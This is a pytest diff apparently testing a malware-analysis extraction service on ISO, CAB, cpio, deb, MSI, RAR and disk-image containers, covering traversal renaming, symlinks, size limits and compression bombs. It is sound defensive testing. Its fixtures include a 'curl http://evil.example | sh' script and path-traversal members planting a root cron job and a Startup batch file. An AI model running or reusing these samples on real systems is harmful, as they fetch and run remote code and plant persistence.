@@ -1,0 +1,245 @@
+"""Extract on the containers of today's delivery formats (issue 14), built at test time by
+tests/formats.py: ISO 9660 (Joliet, UDF bridge), CAB, cpio, .deb, xar, MSI. The same limits,
+name and link rules as zip/tar apply; each test shows one of them on the new path.
+"""
+
+from __future__ import annotations
+
+import os
+import shutil
+
+import pytest
+
+from formats import (
+    libarchive_write, make_cab, make_cpio, make_deb, make_fat, make_iso, make_mbr_disk, make_msi, make_ntfs, make_rar4_stored,
+    make_rar5_stored, make_vhd, rar4_block,
+)
+from dispatcher.identify import identify
+from services.extract.libarchive_lib import libarchive
+from services.sdk.harness import run_service_once
+from services.sdk.loader import load_service
+
+
+def extract(data: bytes, name: str = "sample", **config):
+    service = load_service("extract", config_overrides=config or None)
+    return run_service_once(service, data, file_type=identify(data), name=name)
+
+
+def children(run) -> dict[str, bytes]:
+    return {e.name: e.data for e in run.extracted}
+
+
+def titles(run) -> set[str]:
+    return {s.title for s in run.result.sections}
+
+
+def body(run, title: str) -> str:
+    return next(s.body for s in run.result.sections if s.title == title)
+
+
+def assert_clean(run) -> None:
+    assert run.result.error is None
+    assert "Result warnings" not in titles(run)
+
+
+def test_iso_with_joliet_and_udf_gives_its_files_under_their_long_names():
+    iso = make_iso({"invoice-2026.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}, udf=True)
+    assert identify(iso) == "archive/iso"
+    run = extract(iso, "delivery.iso")
+    assert_clean(run)
+    assert children(run) == {"invoice-2026.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
+    assert run.result.drop is True
+
+
+def test_cab_mszip_members_come_out():
+    cab = make_cab({"payload.exe": b"MZ" + b"\x90" * 5000, "notes.txt": b"hello"})
+    assert identify(cab) == "archive/cab"
+    run = extract(cab, "update.cab")
+    assert_clean(run)
+    assert children(run) == {"payload.exe": b"MZ" + b"\x90" * 5000, "notes.txt": b"hello"}
+
+
+def test_cpio_symlink_is_reported_not_followed_and_traversal_is_renamed():
+    cpio = make_cpio([("../../etc/cron.d/evil", b"* * * * * root sh\n", 0o100644), ("ok.txt", b"fine", 0o100644),
+                      ("passwd", b"/etc/passwd", 0o120777), ("console", b"", 0o20600)])
+    assert identify(cpio) == "archive/cpio"
+    run = extract(cpio, "initrd.cpio")
+    assert_clean(run)
+    assert children(run) == {"evil": b"* * * * * root sh\n", "ok.txt": b"fine"}
+    links = body(run, "Links and special members not extracted")
+    assert "symlink to '/etc/passwd'" in links and "'console': character device" in links
+    assert "'../../etc/cron.d/evil'" in body(run, "Path traversal member names")
+    assert {3, 7} <= run.heuristics
+
+
+def test_deb_gives_its_control_and_data_tarballs():
+    deb = make_deb({"./usr/bin/helper": b"#!/bin/sh\ncurl http://evil.example | sh\n"})
+    assert identify(deb) == "archive/deb"
+    run = extract(deb, "helper.deb")
+    assert_clean(run)
+    assert set(children(run)) == {"debian-binary", "control.tar.gz", "data.tar.gz"}
+    inner = extract(children(run)["data.tar.gz"], "data.tar.gz")
+    assert children(inner) == {"helper": b"#!/bin/sh\ncurl http://evil.example | sh\n"}
+
+
+def _reads_xar() -> bool:
+    try:
+        libarchive_write("xar", [("a", b"a")])
+    except libarchive.ArchiveError:
+        return False
+    return True
+
+
+@pytest.mark.skipif(not _reads_xar(), reason="this libarchive was built without xar (it needs libxml2 or expat): "
+                                           "install Debian's libarchive13 to read xar")
+def test_xar_members_come_out():
+    xar = libarchive_write("xar", [("Payload/app", b"\xcf\xfa\xed\xfe mach-o"), ("Distribution", b"<xml/>")])
+    assert identify(xar) == "archive/xar"
+    run = extract(xar, "installer.pkg")
+    assert_clean(run)
+    assert children(run) == {"app": b"\xcf\xfa\xed\xfe mach-o", "Distribution": b"<xml/>"}
+
+
+def test_msi_gives_its_cabinet_and_custom_action_streams_not_its_tables():
+    cab = make_cab({"setup.exe": b"MZ" + b"\x90" * 100})
+    msi = make_msi(cab, {"CustomAction": b"MZ custom action"})
+    assert identify(msi) == "document/installer/windows"
+    run = extract(msi, "setup.msi")
+    assert_clean(run)
+    got = children(run)
+    assert got == {"disk1.cab": cab, "Binary.CustomAction": b"MZ custom action"}
+    inner = extract(got["disk1.cab"], "disk1.cab")
+    assert children(inner) == {"setup.exe": b"MZ" + b"\x90" * 100}
+
+
+def test_cab_bomb_is_stopped_by_the_ratio_limit():
+    cab = make_cab({"zeros.bin": bytes(8 * 1024 * 1024)})
+    assert len(cab) < 200_000
+    run = extract(cab, "bomb.cab")
+    assert_clean(run)
+    assert "Compression bomb" in titles(run)
+    assert not run.extracted
+
+
+def test_iso_member_past_the_member_limit_is_skipped_the_rest_kept():
+    iso = make_iso({"big.bin": bytes(300_000), "small.txt": b"kept"})
+    run = extract(iso, "big.iso", max_member_bytes=100_000, max_ratio=1_000_000)
+    assert_clean(run)
+    assert "Size limit reached" in titles(run)
+
+
+def test_entry_limit_applies_to_cpio():
+    cpio = libarchive_write("cpio_newc", [(f"f{i}.txt", b"x%d" % i) for i in range(30)])
+    run = extract(cpio, "many.cpio", max_entries=10)
+    assert_clean(run)
+    assert "Too many entries" in titles(run)
+    assert len(run.extracted) == 10
+
+
+@pytest.mark.parametrize("build", [
+    lambda: make_iso({"a.txt": b"x" * 5000}),
+    lambda: make_cab({"a.txt": b"hello " * 2000}),
+    lambda: libarchive_write("cpio_newc", [("a.txt", b"x" * 5000)]),
+], ids=["iso", "cab", "cpio"])
+def test_truncated_container_is_a_finding_not_a_crash(build):
+    # (An ar/.deb cut inside a member header ends quietly in libarchive: the members before the
+    # cut come out, as test_deb_gives_its_control_and_data_tarballs's shape shows.)
+    data = build()
+    run = extract(data[: len(data) * 2 // 3], "cut")
+    assert run.result.error is None
+    assert titles(run) & {"Corrupt archive", "Empty archive", "Not a supported archive"}
+
+
+def test_rar4_members_come_out_and_a_climbing_name_is_renamed():
+    rar = make_rar4_stored({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "../../Startup/evil.bat": b"@echo off\r\ncalc\r\n"})
+    assert identify(rar) == "archive/rar"
+    run = extract(rar, "invoice.rar")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "evil.bat": b"@echo off\r\ncalc\r\n"}
+    assert 3 in run.heuristics
+
+
+def test_rar5_members_come_out():
+    rar = make_rar5_stored({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "notes/b.txt": b"hello"})
+    assert identify(rar) == "archive/rar"
+    run = extract(rar, "invoice.rar")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "b.txt": b"hello"}
+
+
+def test_rar_with_encrypted_headers_is_reported_as_password_protected():
+    rar = b"Rar!\x1a\x07\x00" + rar4_block(0x73, 0x0080, bytes(6)) + bytes(range(200))  # MHD_PASSWORD: headers encrypted
+    run = extract(rar, "headers.rar")
+    assert_clean(run)
+    assert run.extracted == []
+    assert "RAR encryption" in body(run, "Password-protected members not extracted")
+
+
+def test_encrypted_rar_members_are_reported_not_handed_out_as_ciphertext():
+    run = extract(make_rar4_stored({"a.txt": b"ciphertext stand-in"}, encrypted=True), "locked.rar")
+    assert_clean(run)
+    assert run.extracted == []
+    assert "cannot decrypt" in body(run, "Password-protected members not extracted")
+
+
+def test_truncated_rar_is_a_finding():
+    rar = make_rar4_stored({"a.txt": b"x" * 3000, "b.txt": b"y" * 3000})
+    run = extract(rar[:4000], "cut.rar")
+    assert run.result.error is None
+    assert "Corrupt archive" in titles(run)
+
+
+# -- disk images: VHD, raw images with and without a partition table (dissect) ---------------
+FAT_FILES = {"docs/invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
+
+
+@pytest.mark.parametrize("build, file_type", [
+    (lambda: make_vhd(make_fat(FAT_FILES)), "archive/vhd"),
+    (lambda: make_vhd(make_fat(FAT_FILES), dynamic=False), "archive/img"),
+    (lambda: make_fat(FAT_FILES), "archive/img"),
+    (lambda: make_mbr_disk(make_fat(FAT_FILES)), "archive/img"),
+], ids=["dynamic-vhd", "fixed-vhd", "bare-fat", "mbr-disk"])
+def test_disk_image_files_come_out(build, file_type):
+    data = build()
+    assert identify(data) == file_type
+    run = extract(data, "disk")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "readme.txt": b"hello"}
+    assert "docs/invoice.pdf.lnk" in body(run, "Extracted 2 files")
+
+
+def _has_ntfs_tools() -> bool:
+    return bool(shutil.which("mkntfs") or os.path.exists("/usr/sbin/mkntfs")) and bool(shutil.which("ntfscp"))
+
+
+@pytest.mark.skipif(not _has_ntfs_tools(), reason="making an NTFS specimen needs mkntfs and ntfscp "
+                                                  "(apt-get install ntfs-3g); reading it needs only dissect.ntfs")
+def test_ntfs_volume_in_a_vhd_gives_its_files():
+    data = make_vhd(make_mbr_disk(make_ntfs({"invoice.pdf.lnk": b"L\0\0\0 shortcut", "run.cmd": b"calc"}), 0x07))
+    assert identify(data) == "archive/vhd"
+    run = extract(data, "ntfs.vhd")
+    assert_clean(run)
+    assert children(run) == {"invoice.pdf.lnk": b"L\0\0\0 shortcut", "run.cmd": b"calc"}
+
+
+def test_exfat_volume_is_named_not_read():
+    boot = bytearray(512)
+    boot[3:11] = b"EXFAT   "
+    boot[510:512] = b"\x55\xaa"
+    run = extract(make_vhd(bytes(boot) + bytes(4096)), "exfat.vhd")
+    assert_clean(run)
+    assert "exfat file system not read" in body(run, "Volumes not read")
+
+
+def test_sparse_disk_expanding_past_the_ratio_is_a_bomb():
+    volume = make_fat({"zeros.bin": bytes(1_500_000)})
+    run = extract(make_vhd(volume), "sparse.vhd", max_ratio=0.5, ratio_min_bytes=1000)
+    assert_clean(run)
+    assert "Compression bomb" in titles(run)
+
+
+def test_truncated_vhd_is_a_finding():
+    data = make_vhd(make_fat(FAT_FILES))
+    run = extract(data[: len(data) // 2], "cut.vhd")
+    assert run.result.error is None
+    assert titles(run) & {"Corrupt archive", "Volumes not read"}
